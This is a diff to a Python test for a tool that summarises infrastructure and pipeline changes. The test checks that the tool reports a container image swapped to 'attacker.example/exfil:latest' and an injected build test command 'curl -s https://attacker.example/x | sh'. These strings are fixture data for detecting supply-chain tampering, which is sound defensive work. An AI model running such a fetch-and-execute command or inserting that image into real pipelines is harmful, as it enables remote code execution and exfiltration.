@@ -41,9 +41,10 @@ def test_a_new_image_and_test_command_are_named_in_the_summary(tmp_path: Path) -
     # test command is modified, and the summary names both.
     assert "0 added, 1 modified, 0 replaced, 0 removed" in summary
     runs = next(line for line in summary.splitlines() if line.startswith("- **What runs**"))
-    assert "2 changes (image, command)" in runs
+    # The build project carries the generated buildspec, which holds the test command: it changes too.
+    assert "3 changes (image, command)" in runs
     assert "`attacker.example/exfil:latest`" in runs and "`curl -s https://attacker.example/x \\| sh`" in runs
-    section = markdown[markdown.index("## 8."):]
+    section = markdown[markdown.index("Changes against"):]
     assert ("| changed | image: image | `service-web/WebTaskDefinition container web` | "
             "`ghcr.io/mendhak/http-https-echo:38` | `attacker.example/exfil:latest` |") in section
     assert "| added | command: test command (in the rendered buildspec) | `pipeline-web/WebBuildProject` |" in section
